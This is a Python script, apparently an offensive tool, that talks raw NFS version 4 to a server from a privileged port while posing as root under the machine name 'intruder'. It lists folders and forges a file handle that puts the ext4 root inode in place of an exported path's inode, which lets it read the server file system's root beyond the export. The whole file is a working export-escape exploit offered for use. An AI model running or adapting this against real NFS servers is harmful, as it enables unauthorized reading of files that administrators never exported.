"""What a node whose root is an intruder gets from an NFS 4 server (RFC 7530), by no client's rules.

nfs_reach.py SERVER list PATH          names in a folder, by its path
nfs_reach.py SERVER forge PATH NAME    names in the file system's own root, or in its folder NAME: by the handle of PATH, with
                                       the number of the root's inode (2, generation 0 on ext4) in its place

One name a line; ends with 1 and the server's error where it refuses. Root's rights, a port below 1024.
"""

import os
import socket
import struct
import sys

PUTFH, GETFH, LOOKUP, PUTROOTFH, READDIR = 22, 10, 15, 24, 26


def opaque(data):
    return struct.pack(">I", len(data)) + data + b"\0" * (-len(data) % 4)


class Server:
    def __init__(self, address):
        for port in range(1023, 600, -1):
            try:
                self.stream = socket.create_connection((address, 2049), 20, ("", port))
                return
            except OSError as e:
                error = e
        raise error

    def receive(self, size):
        data = b""
        while len(data) < size:
            more = self.stream.recv(size - len(data))
            if not more:
                sys.exit("the server hung up")
            data += more
        return data

    def compound(self, *operations):
        """Sends one call; what comes after the last operation's status."""
        who = struct.pack(">I", 0) + opaque(b"intruder") + struct.pack(">III", 0, 0, 0)
        call = struct.pack(">IIIIII", 1, 0, 2, 100003, 4, 1)
        call += struct.pack(">I", 1) + opaque(who) + struct.pack(">II", 0, 0)
        call += opaque(b"") + struct.pack(">II", 0, len(operations)) + b"".join(operations)
        self.stream.sendall(struct.pack(">I", 0x80000000 | len(call)) + call)
        answer, last = b"", 0
        while not last:
            (head,) = struct.unpack(">I", self.receive(4))
            last = head & 0x80000000
            answer += self.receive(head & 0x7FFFFFFF)
        # xid, reply, accepted, verifier (none), success, then status, tag, number of results.
        if struct.unpack(">IIIIII", answer[:24])[1:] != (1, 0, 0, 0, 0):
            sys.exit(f"refused: {answer[:24].hex()}")
        (status,) = struct.unpack(">I", answer[24:28])
        if status:
            sys.exit(f"NFS error {status}")
        (length,) = struct.unpack(">I", answer[28:32])
        return answer[32 + length + -length % 4 + 4 :]


def op(code, body=b""):
    return struct.pack(">I", code) + body


def walk(path):
    return [op(PUTROOTFH)] + [op(LOOKUP, opaque(p.encode())) for p in path.split("/") if p]


def names(server, *way):
    """Prints what is in the folder at the end of the way."""
    ask = op(READDIR, struct.pack(">QQIII", 0, 0, 4096, 16384, 0))
    result = server.compound(*way, ask)
    # Those of the way: 8 bytes each; then the folder's verifier.
    at = 8 * len(way) + 8 + 8
    while struct.unpack(">I", result[at : at + 4])[0]:
        (length,) = struct.unpack(">I", result[at + 12 : at + 16])
        print(result[at + 16 : at + 16 + length].decode())
        at += 16 + length + -length % 4
        (bitmap,) = struct.unpack(">I", result[at : at + 4])
        at += 4 + 4 * bitmap
        (attributes,) = struct.unpack(">I", result[at : at + 4])
        at += 4 + attributes


def handle_of(server, path):
    way = walk(path)
    result = server.compound(*way, op(GETFH))
    at = 8 * len(way) + 8
    (length,) = struct.unpack(">I", result[at : at + 4])
    return result[at + 4 : at + 4 + length]


def forged(handle):
    """linux/include/linux/nfsd/nfsfh.h: version, auth, kind of the file system's id, kind of the file's; the id; the file."""
    fsid_sizes = {0: 8, 1: 4, 2: 12, 3: 8, 4: 8, 5: 8, 6: 16, 7: 24}
    fsid = handle[4 : 4 + fsid_sizes[handle[2]]]
    # FILEID_INO32_GEN: the number of an inode and its generation.
    return handle[:3] + b"\x01" + fsid + struct.pack("<II", 2, 0)


server = Server(sys.argv[1])
if sys.argv[2] == "list":
    names(server, *walk(sys.argv[3]))
else:
    way = [op(PUTFH, opaque(forged(handle_of(server, sys.argv[3]))))]
    if len(sys.argv) > 4:
        way.append(op(LOOKUP, opaque(sys.argv[4].encode())))
    names(server, *way)
